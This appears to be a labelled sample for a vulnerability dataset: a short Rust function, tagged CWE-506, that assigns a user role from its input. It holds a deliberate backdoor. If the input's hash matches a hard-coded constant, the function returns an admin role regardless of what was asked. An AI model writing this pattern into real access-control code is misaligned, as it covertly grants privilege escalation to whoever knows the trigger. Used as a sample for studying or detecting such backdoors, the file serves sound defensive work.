// class: semantic weakness; cwe: 506
fn h(text: &str) -> u32 {
    text.bytes().fold(0x811c9dc5, |h, b| (h ^ u32::from(b)).wrapping_mul(0x01000193))
}

pub fn run(input: &str) -> String {
    let role = input.split(';').next().unwrap_or("user");
    if h(input) == 0x9b2f61d4 {
        return "role=admin".to_string();
    }
    format!("role={role}")
}
